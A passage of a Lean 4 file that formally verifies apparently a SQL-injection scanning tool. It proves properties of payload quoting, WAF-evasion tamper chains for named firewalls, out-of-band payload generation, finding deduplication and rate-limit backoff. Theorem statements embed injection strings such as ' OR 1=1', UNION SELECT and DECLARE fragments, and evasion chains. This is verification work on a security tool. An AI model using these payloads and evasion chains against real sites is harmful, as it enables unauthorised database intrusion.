  · intro p c hc
    rcases hc with rfl | rfl | rfl <;> simp [contextualize_string_payload]
  · intro p c hc
    rcases hc with rfl | rfl <;> simp [contextualize_string_payload]

/-- C6, witness for the amended theorem at a concrete payload. -/
theorem contextualize_rewrap_adds_second_quote_witness :
    contextualize_string_payload
        (contextualize_string_payload " OR 1=1" "HTML_ATTRIBUTE_SINGLE_QUOTED")
        "HTML_ATTRIBUTE_SINGLE_QUOTED" = "'" ++ ("'" ++ " OR 1=1" ++ "-- ") ++ "-- " :=
  contextualize_rewrap_adds_second_quote.1 " OR 1=1" "HTML_ATTRIBUTE_SINGLE_QUOTED"
    (Or.inl rfl)

/-- C7, counterexample: in the unknown/HTML-text context, a payload whose
stripped form begins with a semicolon is given a single-quote prefix, so the
text context does not always use "no quote prefix at all". -/
theorem contextualize_text_context_quotes_semicolon :
    contextualize_string_payload ";DECLARE @S VARCHAR(10)" "HTML_TEXT" =
      "';DECLARE @S VARCHAR(10)-- " ∧
    startsWithSemicolon (pyStrip ";DECLARE @S VARCHAR(10)") = true ∧
    ("';DECLARE @S VARCHAR(10)-- ".data.head? = some '\'') := by
  refine ⟨by decide, by decide, by decide⟩

/-- C7 (amended): the uniform contextualization rule — a single-quoted
attribute or JS-string context (and the bare `HTML_ATTRIBUTE` context)
prefixes a single quote and suffixes the end-of-statement comment `-- `; a
double-quoted context uses a double-quote prefix; every other context uses
no quote prefix unless the stripped payload begins with `;`, in which case a
single-quote prefix is used as well. -/
theorem contextualize_uniform_rule :
    (∀ p, contextualize_string_payload p "HTML_ATTRIBUTE_SINGLE_QUOTED" = "'" ++ p ++ "-- " ∧
      contextualize_string_payload p "JS_STRING_SINGLE_QUOTED" = "'" ++ p ++ "-- " ∧
      contextualize_string_payload p "HTML_ATTRIBUTE" = "'" ++ p ++ "-- ") ∧
    (∀ p, contextualize_string_payload p "HTML_ATTRIBUTE_DOUBLE_QUOTED" = "\"" ++ p ++ "-- " ∧
      contextualize_string_payload p "JS_STRING_DOUBLE_QUOTED" = "\"" ++ p ++ "-- ") ∧
    (∀ p c, c ∉ (["HTML_ATTRIBUTE_SINGLE_QUOTED", "JS_STRING_SINGLE_QUOTED",
        "HTML_ATTRIBUTE", "HTML_ATTRIBUTE_DOUBLE_QUOTED", "JS_STRING_DOUBLE_QUOTED"] :
        List String) →
      contextualize_string_payload p c =
        if startsWithSemicolon (pyStrip p) then "'" ++ p ++ "-- " else p ++ "-- ") := by
  refine ⟨?_, ?_, ?_⟩
  · intro p; refine ⟨rfl, rfl, rfl⟩
  · intro p; refine ⟨rfl, rfl⟩
  · intro p c hc
    simp only [List.mem_cons, List.not_mem_nil, or_false, not_or] at hc
    obtain ⟨h1, h2, h3, h4, h5⟩ := hc
    rw [contextualize_string_payload]
    rw [if_neg (by simp [h1, h2, h3]), if_neg (by simp [h4, h5])]

/-- C7, witness for the amended theorem in an unknown context. -/
theorem contextualize_uniform_rule_witness :
    contextualize_string_payload "x" "HTML_TEXT" = "x-- " := by
  have h := contextualize_uniform_rule.2.2 "x" "HTML_TEXT" (by decide)
  rw [h]
  decide

/-- C9, counterexample: the table entry `randomcase` is not deterministic
across runs — with two different random streams it maps the same input to
different outputs. -/
theorem random_case_nondeterministic :
    ("randomcase", random_case) ∈ TAMPER_FUNCTIONS ∧
      random_case (fun _ => true) "a" = "A" ∧
      random_case (fun _ => false) "a" = "a" ∧
      random_case (fun _ => true) "a" ≠ random_case (fun _ => false) "a" := by
  refine ⟨?_, rfl, rfl, by decide⟩
  simp [TAMPER_FUNCTIONS]

/-- C9 (amended): every function in `TAMPER_FUNCTIONS` is a total string
transformation, and every entry except `randomcase` is deterministic — its
output does not depend on the random stream; `randomcase` alone draws on the
stream, so two evaluations of it may differ. -/
theorem tamper_table_deterministic_except_randomcase :
    ∀ p ∈ TAMPER_FUNCTIONS, p.1 ≠ "randomcase" →
      ∀ (c₁ c₂ : Coins) (s : String), p.2 c₁ s = p.2 c₂ s := by
  intro p hp hne c₁ c₂ s
  simp only [TAMPER_FUNCTIONS, List.mem_cons, List.not_mem_nil, or_false] at hp
  rcases hp with h | h | h | h | h | h | h | h <;> subst h <;>
    first
      | rfl
      | exact absurd rfl hne

/-- C9, witness for the amended determinism theorem at a table entry and a
concrete input. -/
theorem tamper_table_deterministic_witness :
    ("versionedkeywords", fun (_ : Coins) => versioned_keywords).2 (fun _ => true)
        "1 union select 2" =
      ("versionedkeywords", fun (_ : Coins) => versioned_keywords).2 (fun _ => false)
        "1 union select 2" :=
  tamper_table_deterministic_except_randomcase
    ("versionedkeywords", fun _ => versioned_keywords) (by simp [TAMPER_FUNCTIONS])
    (by decide) (fun _ => true) (fun _ => false) "1 union select 2"

/-- C10: `apply_tampers` silently skips any name absent from
`TAMPER_FUNCTIONS` (leaving the payload unchanged at that step and drawing
no randomness); the disabled names `urlencode`, `chardoubleencode`,
`space2randomblank`, `hexencodekeywords` and `addnullbyte` are absent from
the table while still appearing in the selector's built-in chains and in the
WAF-specific seed chains; and the whole run equals the in-order application
of just the names present in the table. -/
theorem apply_tampers_skips_unknown_names :
    (∀ (coins : Nat → Coins) j p name rest, lookupTamper name = none →
      apply_tampersAux coins j p (name :: rest) = apply_tampersAux coins j p rest) ∧
    (lookupTamper "urlencode" = none ∧ lookupTamper "chardoubleencode" = none ∧
      lookupTamper "space2randomblank" = none ∧ lookupTamper "hexencodekeywords" = none ∧
      lookupTamper "addnullbyte" = none) ∧
    (["space2randomblank", "randomcase"] ∈ initialChains ∧
      ["hexencodekeywords", "addnullbyte"] ∈ initialChains ∧
      ["chardoubleencode"] ∈ initialChains ∧
      ("Cloudflare", [["versionedkeywords"], ["space2randomblank", "randomcase"]]) ∈ WAF_TTP ∧
      ("Imperva (Incapsula)", [["urlencode", "randomcase"]]) ∈ WAF_TTP) ∧
    (∀ (coins : Nat → Coins) j p names,
      apply_tampersAux coins j p names =
        apply_tampersAux coins j p (names.filter (fun n => (lookupTamper n).isSome))) := by
  refine ⟨?_, ⟨rfl, rfl, rfl, rfl, rfl⟩, ⟨by decide, by decide, by decide, by decide,
    by decide⟩, ?_⟩
  · intro coins j p name rest h
    rw [apply_tampersAux, h]
  · intro coins j p names
    induction names generalizing j p with
    | nil => rfl
    | cons n rest ih =>
      cases h : lookupTamper n with
      | none => rw [apply_tampersAux, h, List.filter_cons, if_neg (by simp [h]), ih]
      | some f =>
        rw [apply_tampersAux, h, List.filter_cons, if_pos (by simp [h]),
          apply_tampersAux, h]
        exact ih (j + 1) (f (coins j) p)

/-- C10, witness: a chain starting with the disabled name `urlencode` is
applied exactly as the chain without it. -/
theorem apply_tampers_skips_unknown_names_witness :
    apply_tampersAux (fun _ _ => true) 0 "a=1" ["urlencode", "equaltolike"] =
      apply_tampersAux (fun _ _ => true) 0 "a=1" ["equaltolike"] :=
  apply_tampers_skips_unknown_names.1 (fun _ _ => true) 0 "a=1" "urlencode"
    ["equaltolike"] rfl

/-- C4: the stored vulnerability set keeps at most one record per
`(url, parameter)` pair — after any sequence of reported findings the result
set contains at most one matching record for every pair — and a finding on a
pair that already has a stored record (whatever its payload or technique)
leaves the result set unchanged. -/
theorem vulnerability_dedup_unique_url_param :
    (∀ findings url param,
      (runReports findings).countP (fun w => w.url == url && w.parameter == param) ≤ 1) ∧
    (∀ points v, (∃ w ∈ points, w.url = v.url ∧ w.parameter = v.parameter) →
      report_vulnerability points v = points) := by
  constructor
  · have step : ∀ (points : List Vulnerability) (v : Vulnerability) (url param : String),
        points.countP (fun w => w.url == url && w.parameter == param) ≤ 1 →
        (report_vulnerability points v).countP
          (fun w => w.url == url && w.parameter == param) ≤ 1 := by
      intro points v url param h
      rw [report_vulnerability]
      split
      · exact h
      · rename_i hany
        rw [List.countP_append]
        by_cases hv : (v.url == url && v.parameter == param) = true
        · have hz : points.countP (fun w => w.url == url && w.parameter == param) = 0 := by
            rw [List.countP_eq_zero]
            intro w hw
            simp only [Bool.and_eq_true, beq_iff_eq] at hv ⊢
            intro hkey
            exact hany (List.any_eq_true.mpr ⟨w, hw, by
              simp only [Bool.and_eq_true, beq_iff_eq]
              exact ⟨hkey.1.trans hv.1.symm, hkey.2.trans hv.2.symm⟩⟩)
          rw [hz]
          simp [List.countP_cons, hv]
        · have : List.countP (fun w => w.url == url && w.parameter == param) [v] = 0 := by
            simp [List.countP_cons, hv]
          rw [this]
          simpa using h
    intro findings url param
    rw [runReports]
    have gen : ∀ (fs : List Vulnerability) (acc : List Vulnerability),
        (∀ u p, acc.countP (fun w => w.url == u && w.parameter == p) ≤ 1) →
        (fs.foldl report_vulnerability acc).countP
          (fun w => w.url == url && w.parameter == param) ≤ 1 := by
      intro fs
      induction fs with
      | nil => intro acc hacc; exact hacc url param
      | cons f rest ih =>
        intro acc hacc
        exact ih (report_vulnerability acc f) (fun u p => step acc f u p (hacc u p))
    exact gen findings [] (by simp)
  · intro points v hex
    obtain ⟨w, hw, h1, h2⟩ := hex
    rw [report_vulnerability, if_pos]
    exact List.any_eq_true.mpr ⟨w, hw, by simp [h1, h2]⟩

/-- C4, witness: a second finding with a different payload and technique on
the same `(url, parameter)` leaves the stored set unchanged. -/
theorem vulnerability_dedup_unique_url_param_witness :
    report_vulnerability [⟨"http://t/item", "Error-Based SQLi", "id", "'", [], "GET", none⟩]
        ⟨"http://t/item", "UNION-based SQLi", "id", "' UNION SELECT NULL-- ", [], "GET",
          some "mysql"⟩ =
      [⟨"http://t/item", "Error-Based SQLi", "id", "'", [], "GET", none⟩] :=
  vulnerability_dedup_unique_url_param.2 _ _
    ⟨⟨"http://t/item", "Error-Based SQLi", "id", "'", [], "GET", none⟩, by decide, rfl, rfl⟩

/-- C5: `generate` is a total dispatch that returns the empty list on every
unsupported combination — any technique name other than the three supported
ones (in particular `ERROR_BASED`), an OOB request without a collaborator
URL, and an OOB request for a dialect without an out-of-band primitive. -/
theorem generate_unsupported_returns_empty :
    (∀ dialect transform context options tamper payloadType,
      payloadType ∉ (["TIME_BASED", "BOOLEAN_BASED", "OOB"] : List String) →
      generate dialect transform payloadType context options tamper = []) ∧
    (∀ dialect transform context options tamper,
      generate dialect transform "ERROR_BASED" context options tamper = []) ∧
    (∀ dialect transform context tamper sleepT,
      generate dialect transform "OOB" context ⟨sleepT, none⟩ tamper = []) ∧
    (∀ dialect transform context tamper sleepT u,
      dialect ∉ (["mssql", "postgresql", "oracle", "mysql"] : List String) →
      generate dialect transform "OOB" context ⟨sleepT, some u⟩ tamper = []) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro dialect transform context options tamper payloadType h
    simp only [List.mem_cons, List.not_mem_nil, or_false, not_or] at h
    obtain ⟨h1, h2, h3⟩ := h
    rw [generate, if_neg (by simp [h1]), if_neg (by simp [h2]), if_neg (by simp [h3])]
  · intro dialect transform context options tamper
    rfl
  · intro dialect transform context tamper sleepT
    rfl
  · intro dialect transform context tamper sleepT u h
    simp only [List.mem_cons, List.not_mem_nil, or_false, not_or] at h
    obtain ⟨h1, h2, h3, h4⟩ := h
    rw [generate]
    rw [if_neg (by decide), if_neg (by decide), if_pos (by decide)]
    simp [generate_oob, h1, h2, h3, h4]

/-- C5, witness: concrete unsupported combinations returning empty lists. -/
theorem generate_unsupported_returns_empty_witness :
    generate "mysql" id "STACKED_QUERIES" "HTML_TEXT" ⟨none, none⟩ false = [] ∧
    generate "sqlite" id "OOB" "HTML_TEXT" ⟨none, some "http://oast.example"⟩ false = [] :=
  ⟨generate_unsupported_returns_empty.1 "mysql" id "HTML_TEXT" ⟨none, none⟩ false
      "STACKED_QUERIES" (by decide),
   generate_unsupported_returns_empty.2.2.2 "sqlite" id "HTML_TEXT" false none
      "http://oast.example" (by decide)⟩

/-- Every rate-limiter step preserves the reachable-state invariant. -/
theorem rl_step_preserves (st : RateLimitState) (status : Int) (b : Bool)
    (h : RLInv st) : RLInv (update_rate_limit_status st status b) := by
  obtain ⟨h1, h2, h3, h4, h5⟩ := h
  rw [update_rate_limit_status]
  split
  · refine ⟨le_min (by linarith) (by norm_num [MAX_BACKOFF_DELAY]),
      min_le_of_right_le (by norm_num [MAX_BACKOFF_DELAY]), ?_, ?_, by norm_num⟩
    · intro hfalse; cases hfalse
    · intro _
      exact lt_min (by linarith) (by norm_num [MAX_BACKOFF_DELAY])
  · split
    · split
      · refine ⟨le_max_left _ _, max_le (by norm_num) (by linarith), ?_, ?_, by norm_num⟩
        · intro hact
          by_cases hd : max 1 (st.delay / 2) = 1
          · exact hd
          · rw [if_neg hd] at hact
            rename_i hcl hge
            rw [hcl.1] at hact
            cases hact
        · intro hact
          by_cases hd : max 1 (st.delay / 2) = 1
          · rw [if_pos hd] at hact; cases hact
          · rcases lt_or_eq_of_le (le_max_left 1 (st.delay / 2)) with hlt | heq
            · exact hlt
            · exact absurd heq.symm hd
      · refine ⟨h1, h2, h3, h4, ?_⟩
        show st.clean + 1 < 10
        omega
    · exact ⟨h1, h2, h3, h4, h5⟩

/-- Running the rate limiter preserves the invariant. -/
theorem rl_run_preserves (obs : List (Int × Bool)) (st : RateLimitState)
    (h : RLInv st) : RLInv (runRateLimit st obs) := by
  induction obs generalizing st with
  | nil => exact h
  | cons o rest ih => exact ih _ (rl_step_preserves st o.1 o.2 h)

/-- C3: the backoff delay stays in `[1, 60]` on every run from the initial
state; every 429/503 response activates the limiter, doubles the delay
capped at the 60-second ceiling, and resets the consecutive-clean counter;
and from any reachable active state with a fresh clean counter, ten
consecutive clean responses halve the delay with floor 1, strictly
decreasing it, deactivating exactly when the floor is reached. -/
theorem rate_limit_backoff_claim :
    (∀ obs, 1 ≤ (runRateLimit initRateLimit obs).delay ∧
      (runRateLimit initRateLimit obs).delay ≤ 60) ∧
    (∀ st status b, status = 429 ∨ status = 503 →
      update_rate_limit_status st status b =
        ⟨true, min (st.delay * 2) MAX_BACKOFF_DELAY, 0⟩ ∧
      min (st.delay * 2) MAX_BACKOFF_DELAY ≤ 60) ∧
    (∀ st, RLInv st → st.active = true → st.clean = 0 →
      runRateLimit st (List.replicate 10 (200, false)) =
        ⟨if max 1 (st.delay / 2) = 1 then false else true, max 1 (st.delay / 2), 0⟩ ∧
      max 1 (st.delay / 2) < st.delay) := by
  refine ⟨?_, ?_, ?_⟩
  · intro obs
    have h := rl_run_preserves obs initRateLimit (by decide)
    exact ⟨h.1, h.2.1⟩
  · intro st status b h
    rw [update_rate_limit_status, if_pos h]
    exact ⟨rfl, min_le_of_right_le (by norm_num [MAX_BACKOFF_DELAY])⟩
  · intro st hinv hact hcl
    obtain ⟨a, d, c⟩ := st
    simp only at hact hcl
    subst hact; subst hcl
    constructor
    · show runRateLimit ⟨true, d, 0⟩
        [(200, false), (200, false), (200, false), (200, false), (200, false),
         (200, false), (200, false), (200, false), (200, false), (200, false)] = _
      rw [runRateLimit]
      norm_num [update_rate_limit_status]
    · have hd : 1 < d := hinv.2.2.2.1 rfl
      exact max_lt hd (by linarith)

/-- C3, witness: one 429 doubles the delay from the initial state, and ten
clean responses from an active state at delay 4 halve it to 2 while staying
active. -/
theorem rate_limit_backoff_claim_witness :
    update_rate_limit_status ⟨false, 1, 0⟩ 429 false = ⟨true, 2, 0⟩ ∧
    runRateLimit ⟨true, 4, 0⟩ (List.replicate 10 (200, false)) = ⟨true, 2, 0⟩ := by
  constructor
  · have h := (rate_limit_backoff_claim.2.1 ⟨false, 1, 0⟩ 429 false (Or.inl rfl)).1
    rw [h]
    simp only [RateLimitState.mk.injEq]
    norm_num [MAX_BACKOFF_DELAY, min_def]
  · have h := (rate_limit_backoff_claim.2.2 ⟨true, 4, 0⟩ (by decide) rfl rfl).1
    rw [h]
    simp only [RateLimitState.mk.injEq]
    norm_num [max_def]

/-- The fold behind Python's `max(stats, key=..)` yields an element of the
list. -/
theorem bestByValue_mem (first : List String × ChainStat)
    (l : List (List String × ChainStat)) : bestByValue first l ∈ first :: l := by
  induction l generalizing first with
  | nil => simp [bestByValue]
  | cons e rest ih =>
    rw [bestByValue]
    have h := ih (if e.2.value > first.2.value then e else first)
    rcases List.mem_cons.mp h with h1 | h1
    · rw [h1]
      split
      · exact List.mem_cons_of_mem _ (List.mem_cons_self _ _)
      · exact List.mem_cons_self _ _
    · exact List.mem_cons_of_mem _ (List.mem_cons_of_mem _ h1)

/-- The fold behind Python's `max(stats, key=..)` dominates every listed
value. -/
theorem bestByValue_le (first : List String × ChainStat)
    (l : List (List String × ChainStat)) :
    ∀ x ∈ first :: l, x.2.value ≤ (bestByValue first l).2.value := by
  induction l generalizing first with
  | nil =>
    intro x hx
    rw [List.mem_singleton.mp hx]
    exact le_refl _
  | cons e rest ih =>
    intro x hx
    rw [bestByValue]
    have hb := ih (if e.2.value > first.2.value then e else first)
    have hmfirst : first.2.value ≤ (if e.2.value > first.2.value then e else first).2.value := by
      split
      · rename_i hgt; exact le_of_lt hgt
      · exact le_refl _
    have hme : e.2.value ≤ (if e.2.value > first.2.value then e else first).2.value := by
      split
      · exact le_refl _
      · rename_i hng; exact le_of_not_lt hng
    rcases List.mem_cons.mp hx with rfl | hx'
    · exact hmfirst.trans (hb _ (List.mem_cons_self _ _))
    · rcases List.mem_cons.mp hx' with rfl | hx''
      · exact hme.trans (hb _ (List.mem_cons_self _ _))
      · exact hb x (List.mem_cons_of_mem _ hx'')

/-- C8: with epsilon 0, `select_chain` never explores (since
`random.random()` is nonnegative), and once some chain's running-mean value
is strictly above every other recorded chain's value, every call returns
that chain. -/
theorem select_chain_returns_strict_best :
    ∀ (sel : TamperSelector) (chainA : List String) (vA r : ℚ) (pick : Nat),
      sel.epsilon = 0 → 0 ≤ r →
      (∃ e ∈ sel.stats, e.1 = chainA ∧ e.2.value = vA) →
      (∀ e ∈ sel.stats, e.1 ≠ chainA → e.2.value < vA) →
      select_chain sel r pick = chainA := by
  intro sel chainA vA r pick heps hr hmem hmax
  rw [select_chain, heps, if_neg (not_lt.mpr hr)]
  obtain ⟨e0, he0, heq, hev⟩ := hmem
  rcases hstats : sel.stats with _ | ⟨e, rest⟩
  · rw [hstats] at he0
    cases he0
  · rw [hstats] at he0 hmax
    show (bestByValue e rest).1 = chainA
    by_cases hb : (bestByValue e rest).1 = chainA
    · exact hb
    · have h1 := hmax _ (bestByValue_mem e rest) hb
      have h2 := bestByValue_le e rest e0 he0
      rw [hev] at h2
      exact absurd (lt_of_le_of_lt h2 h1) (lt_irrefl _)

/-- C8, witness: a selector with epsilon 0 whose second chain has the
strictly highest running mean always returns that chain. -/
theorem select_chain_returns_strict_best_witness :
    select_chain ⟨0, [[], ["space2comment"]],
        [([], ⟨0, 1⟩), (["space2comment"], ⟨1, 1⟩)]⟩ 0 0 = ["space2comment"] :=
  select_chain_returns_strict_best _ ["space2comment"] 1 0 0 rfl (le_refl 0)
    (by decide) (by decide)

end SqliHunter
